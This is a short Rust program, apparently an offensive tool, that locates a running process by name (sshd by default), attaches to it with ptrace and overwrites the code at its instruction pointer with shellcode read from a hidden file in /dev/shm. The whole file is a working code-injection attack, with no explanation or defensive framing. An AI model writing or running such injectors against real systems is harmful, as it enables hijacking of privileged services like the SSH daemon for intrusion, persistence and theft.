use nix::sys::ptrace;
use nix::sys::wait::waitpid;
use nix::unistd::Pid;
use std::env;
use std::fs;

fn find(name: &str) -> Option<i32> {
    for e in fs::read_dir("/proc").ok()?.flatten() {
        if let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() {
            if let Ok(c) = fs::read_to_string(format!("/proc/{pid}/comm")) {
                if c.trim() == name {
                    return Some(pid);
                }
            }
        }
    }
    None
}

fn main() {
    let name = env::args().nth(1).unwrap_or_else(|| "sshd".into());
    let blob = fs::read(env::args().nth(2).unwrap_or_else(|| "/dev/shm/.b".into())).unwrap();
    let pid = Pid::from_raw(find(&name).expect("no process"));
    ptrace::attach(pid).unwrap();
    waitpid(pid, None).unwrap();
    let regs = ptrace::getregs(pid).unwrap();
    for (i, w) in blob.chunks(8).enumerate() {
        let mut b = [0x90u8; 8];
        b[..w.len()].copy_from_slice(w);
        let at = (regs.rip + (i as u64) * 8) as ptrace::AddressType;
        ptrace::write(pid, at, i64::from_le_bytes(b)).unwrap();
    }
    ptrace::detach(pid, None).unwrap();
}
